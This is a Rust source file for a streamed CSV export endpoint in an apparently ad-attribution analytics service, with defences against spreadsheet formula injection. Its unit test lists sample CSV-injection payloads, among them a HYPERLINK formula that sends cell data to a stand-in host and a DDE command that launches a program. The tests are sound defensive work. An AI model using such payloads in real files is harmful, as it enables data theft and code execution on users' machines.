//! Raw exports as CSV, streamed: rows flow from the event store through a small bounded
//! channel into the response body, so memory stays flat whatever the export's size, and a
//! client that goes away stops the query.

use crate::auth::TenantApp;
use crate::error::{ApiError, ApiResult};
use crate::extract::ApiQuery;
use crate::state::AppState;
use axum::body::Body;
use axum::extract::{Path, State};
use axum::http::{HeaderValue, header};
use axum::response::{IntoResponse, Response};
use serde::Deserialize;
use unmogrowp_domain::event::EventType;
use unmogrowp_domain::time::rfc3339;
use unmogrowp_eventstore::{EventRow, ExportQuery, InstallOutcome};
use unmogrowp_storage::tenant::AsMember;

/// The range of report days to export.
#[derive(Deserialize, utoipa::IntoParams)]
#[into_params(parameter_in = Query)]
#[serde(deny_unknown_fields)]
pub struct ExportParams {
    /// First report day (`YYYY-MM-DD`, app time zone); default 6 days before `to`.
    pub from: Option<String>,
    /// Last report day, inclusive; default today.
    pub to: Option<String>,
}

const HEADER: &str = "id,type,name,timestamp,received_at,day,device_id,gaid,idfa,idfv,ip,country,network,campaign,\
adgroup,creative,link_id,click_id,network_click_id,revenue_amount,revenue_currency,revenue,install_status,reattribution,\
reinstall,reengagement,fraud_reason\n";

/// A cell a spreadsheet would run as a formula — one starting with `=`, `+`, `-`, `@`, tab or
/// carriage return (OWASP, "CSV Injection") — gets a leading `'` so it is shown as text. A
/// plain number (a negative revenue, say) is left as it is: it is no formula.
fn neutralised(value: &str) -> std::borrow::Cow<'_, str> {
    match value.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') if value.parse::<f64>().is_err() => {
            std::borrow::Cow::Owned(format!("'{value}"))
        }
        _ => std::borrow::Cow::Borrowed(value),
    }
}

/// One cell and its separator: neutralised, then quoted when it holds a separator, a quote
/// or a line break (RFC 4180).
pub(crate) fn field(out: &mut String, value: &str) {
    let value = neutralised(value);
    if value.contains([',', '"', '\n', '\r']) {
        out.push('"');
        out.push_str(&value.replace('"', "\"\""));
        out.push('"');
    } else {
        out.push_str(&value);
    }
    out.push(',');
}

fn csv_line(row: &EventRow, out: &mut String) {
    let text = |value: &Option<String>| value.clone().unwrap_or_default();
    field(out, &row.id);
    field(out, row.kind.as_str());
    field(out, &text(&row.name));
    field(out, &rfc3339(row.timestamp_ms));
    field(out, &rfc3339(row.received_ms));
    field(out, &row.day.text());
    field(out, &text(&row.device_id));
    field(out, &text(&row.gaid));
    field(out, &text(&row.idfa));
    field(out, &text(&row.idfv));
    field(out, &text(&row.ip));
    field(out, &row.dims.country);
    field(out, &row.dims.network);
    field(out, &row.dims.campaign);
    field(out, &row.dims.adgroup);
    field(out, &row.dims.creative);
    field(out, &text(&row.link_id));
    field(out, &text(&row.click_id));
    field(out, &text(&row.network_click_id));
    field(out, &row.revenue_amount.map(|a| a.to_string()).unwrap_or_default());
    field(out, &text(&row.revenue_currency));
    field(out, &format!("{:.2}", row.revenue));
    field(out, row.install.map_or("", InstallOutcome::as_str));
    field(out, if row.reattribution { "true" } else { "false" });
    field(out, if row.reinstall { "true" } else { "false" });
    field(out, if row.reengagement { "true" } else { "false" });
    field(out, row.fraud_reason.map_or("", |reason| reason.as_str()));
    out.pop();
    out.push('\n');
}

/// Raw rows as CSV: `installs`, `events` (opens, sessions, in-app events) or `clicks`
/// (clicks and impressions), for a range of report days, oldest first, streamed.
#[utoipa::path(get, path = "/api/v1/apps/{app_id}/export/{kind}", tag = "reports", security(("bearer" = [])),
    params(("app_id" = String, Path, description = "The app's id"),
           ("kind" = String, Path, description = "`installs.csv`, `events.csv`, `clicks.csv` or `skadnetwork.csv` (SKAdNetwork postbacks)"), ExportParams),
    responses((status = 200, description = "CSV, streamed", content_type = "text/csv"),
              (status = 403, description = "Viewers cannot export", body = crate::error::ProblemDocument, content_type = "application/problem+json"),
              (status = 404, description = "No such app or export", body = crate::error::ProblemDocument, content_type = "application/problem+json")))]
pub async fn export(
    State(state): State<AppState>,
    found: TenantApp<AsMember>,
    client: crate::auth::ClientInfo,
    Path((_app_id, kind)): Path<(String, String)>,
    ApiQuery(params): ApiQuery<ExportParams>,
) -> ApiResult<Response> {
    if kind == "skadnetwork.csv" {
        return crate::routes::skadnetwork_reports::export_csv(
            state,
            found,
            client,
            params.from.as_deref(),
            params.to.as_deref(),
        )
        .await;
    }
    let TenantApp { app, auth, .. } = found;
    let kinds = match kind.as_str() {
        "installs.csv" => vec![EventType::Install],
        "events.csv" => vec![EventType::Open, EventType::Session, EventType::Event],
        "clicks.csv" => vec![EventType::Click, EventType::Impression],
        _ => {
            return Err(ApiError::not_found(
                "export (use installs.csv, events.csv, clicks.csv or skadnetwork.csv)",
            ));
        }
    };
    let (from, to) = crate::routes::reports::day_range(
        &app.time_zone,
        params.from.as_deref(),
        params.to.as_deref(),
        7,
    )?;
    let query = ExportQuery { app_id: app.id.clone(), kinds, from_day: from, to_day: to };
    let (sender, receiver) = tokio::sync::mpsc::channel::<Result<bytes::Bytes, std::io::Error>>(16);
    let events = state.events.clone();
    let details = serde_json::json!({
        "app_id": app.id.to_string(), "kind": kind.trim_end_matches(".csv"),
        "from": from.to_string(), "to": to.to_string(),
    });
    let task_state = state.clone();
    tokio::spawn(async move {
        let first = sender.clone();
        if first.send(Ok(bytes::Bytes::from_static(HEADER.as_bytes()))).await.is_err() {
            return;
        }
        let chunk_sender = sender.clone();
        let buffer = std::sync::Arc::new(std::sync::Mutex::new(String::with_capacity(64 * 1024)));
        let sink_buffer = buffer.clone();
        let sink = Box::new(move |row: EventRow| {
            let mut buffer = sink_buffer.lock().unwrap_or_else(std::sync::PoisonError::into_inner);
            csv_line(&row, &mut buffer);
            if buffer.len() >= 60 * 1024 {
                let chunk = bytes::Bytes::from(std::mem::replace(
                    &mut *buffer,
                    String::with_capacity(64 * 1024),
                ));
                // Blocks this (blocking) thread while the client is slow: back-pressure.
                return chunk_sender.blocking_send(Ok(chunk)).is_ok();
            }
            true
        });
        match events.export(query, sink).await {
            Ok(rows) => {
                let rest = std::mem::take(
                    &mut *buffer.lock().unwrap_or_else(std::sync::PoisonError::into_inner),
                );
                if !rest.is_empty() {
                    let _ = sender.send(Ok(bytes::Bytes::from(rest))).await;
                }
                metrics::counter!(crate::metric_names::EXPORT_ROWS_TOTAL).increment(rows);
                let mut details = details;
                details["rows"] = rows.into();
                crate::security_events::export_completed(
                    &task_state,
                    &auth,
                    &client,
                    details,
                    rows,
                )
                .await;
            }
            Err(error) => {
                tracing::error!(%error, "export failed");
                let _ = sender.send(Err(std::io::Error::other("the export failed"))).await;
            }
        }
    });
    Ok(csv_download(receiver, &format!("{}-{}-{}-{kind}", app.id, from, to)))
}

/// A streamed CSV download: the chunks `receiver` yields, as an attachment named `filename`.
pub(crate) fn csv_download(
    receiver: tokio::sync::mpsc::Receiver<Result<bytes::Bytes, std::io::Error>>,
    filename: &str,
) -> Response {
    // Fused: the compression layer polls the body again after its end, which a bare
    // `unfold` answers with a panic (cutting the compressed export short).
    let stream =
        futures::StreamExt::fuse(futures::stream::unfold(receiver, |mut receiver| async move {
            receiver.recv().await.map(|item| (item, receiver))
        }));
    let mut response = Body::from_stream(stream).into_response();
    let headers = response.headers_mut();
    headers.insert(header::CONTENT_TYPE, HeaderValue::from_static("text/csv; charset=utf-8"));
    if let Ok(value) = HeaderValue::from_str(&format!("attachment; filename=\"{filename}\"")) {
        headers.insert(header::CONTENT_DISPOSITION, value);
    }
    headers.insert(header::CACHE_CONTROL, HeaderValue::from_static("no-store"));
    response
}

#[cfg(test)]
mod tests {
    use super::field;

    fn cell(value: &str) -> String {
        let mut out = String::new();
        field(&mut out, value);
        out.pop();
        out
    }

    #[test]
    fn formula_cells_are_neutralised_and_numbers_kept() {
        assert_eq!(
            cell("=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"x\")"),
            "\"'=HYPERLINK(\"\"http://example.invalid/?d=\"\"&A1,\"\"x\"\")\""
        );
        assert_eq!(cell("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
        assert_eq!(cell("-2+3"), "'-2+3");
        assert_eq!(cell("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(cell("\t=1"), "'\t=1");
        assert_eq!(cell("\r=1"), "\"'\r=1\"");
        assert_eq!(cell("-1.5"), "-1.5");
        assert_eq!(cell("+44"), "+44");
        assert_eq!(cell("purchase"), "purchase");
        assert_eq!(cell(""), "");
    }
}
